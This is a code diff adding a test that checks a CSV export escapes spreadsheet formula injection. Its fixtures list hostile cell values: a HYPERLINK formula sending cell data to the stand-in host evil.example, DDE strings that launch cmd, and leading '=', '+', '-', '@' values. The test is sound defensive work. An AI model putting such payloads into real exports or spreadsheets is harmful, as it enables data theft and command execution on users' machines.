@@ -100,3 +100,26 @@ def test_html_report_stops_at_max_rows_but_summarises_everything(db: Database, t
     page = out.read_text(encoding="utf-8")
     assert n == 2 and "Inspections<b>5</b>" in page and "showing the first 2" in page
     assert len(re.findall(r'src="data:image/jpeg;base64,', page)) == 2
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(db: Database, tmp_path: Path) -> None:
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2",
+               "-2+3", "\t=1+1", "\r=1+1"]
+    with db.Session.begin() as s:
+        product = repo.get_or_create_product(s, "=cmd|' /C calc'!A0", "bottle")
+        for i, text in enumerate(attacks):
+            iid = repo.add_inspection(s, make_record(product_id=product, answer=text, position=text,
+                                                     image_sha256=f"{i:064x}", score=0.25))
+            repo.set_operator_decision(s, iid, "confirmed", operator=text, note=text)
+    out = tmp_path / "export.csv"
+    with db.Session() as s:
+        assert export_csv(s, InspectionFilter(), out) == len(attacks)
+    with open(out, newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    for row, text in zip(rows, attacks, strict=True):
+        for column in ("answer", "position", "operator", "note"):
+            assert row[column] == "'" + text  # shown as the text it is, never evaluated
+        assert row["product"] == "'=cmd|' /C calc'!A0"
+        assert row["score"] == "0.25"  # numbers stay numbers
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
